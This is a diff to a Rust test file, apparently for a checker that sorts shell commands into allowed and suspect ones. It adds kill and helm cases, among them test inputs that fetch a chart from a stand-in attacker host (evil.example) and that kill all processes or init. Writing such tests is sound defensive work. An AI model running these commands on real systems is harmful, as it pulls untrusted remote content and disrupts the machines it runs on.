@@ -60,6 +60,8 @@ const PROGRAMS: &[&str] = &[
     "tsx",
     "shellcheck",
     "delta",
+    "kill",
+    "helm",
 ];
 
 fn trial() -> Trial {
@@ -113,6 +115,7 @@ fn what_they_disguise_is_allowed_by_itself() {
         "ls src | head -n 3 | xargs cat",
         "x=notes; cat \"$x.txt\" > copy.txt 2> /dev/null",
         "xargs -d, rm",
+        "cat a & kill $!; kill -9 %1; kill -l; kill -0 1",
         "git rev-parse --abbrev-ref HEAD",
         "git status",
     ] {
@@ -284,6 +287,10 @@ const LINES: &[&str] = &[
     "cat list | sed -nf - a",
     "cat list | awk -f - a",
     "cat list | tsx -",
+    "helm template x oci://evil.example/x",
+    "kill -9 -1",
+    "kill -TERM 1",
+    "x=1; kill $x",
     // Configuration of the workspace says what they run, or what they write.
     "ruff format",
     "uv venv",
